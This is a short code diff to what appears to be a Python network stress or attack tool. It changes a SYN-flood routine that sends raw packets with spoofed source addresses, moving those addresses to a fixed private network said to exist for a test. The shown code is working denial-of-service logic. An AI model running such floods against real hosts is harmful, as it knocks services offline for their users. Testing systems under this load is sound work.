@@ -25,6 +25,8 @@ OPENED_AT_ONCE = 100
 PAUSE_SECONDS = 0.005
 PIPELINED = 8
 READ_BYTES = 64 * 1024
+# Where spoofed packets come from: a network of which the test says that it is there.
+NOBODY = "10.77.0.0"
 GOES = select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP
 
 
@@ -241,7 +243,7 @@ def syn(attack: Attack) -> None:
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     host, port = attack.address
     target = socket.inet_aton(host)
-    network = int(ipaddress.ip_address(host)) & 0xFFFF0000
+    network = int(ipaddress.ip_address(NOBODY))
     number, began = 0, time.monotonic()
     while not attack.is_over():
         if attack.done.get("packets", 0) > (time.monotonic() - began) * attack.a_second:
@@ -249,7 +251,7 @@ def syn(attack: Attack) -> None:
             continue
         for _ in range(50):
             number += 1
-            source = struct.pack(">I", network | 0x8000 | (number * 7919 & 0x7FFF))
+            source = struct.pack(">I", network | (number * 7919 & 0xFFFF))
             raw.sendto(segment(source, target, 1024 + number % 60000, port, number), (host, 0))
         attack.count("packets", 50)
 
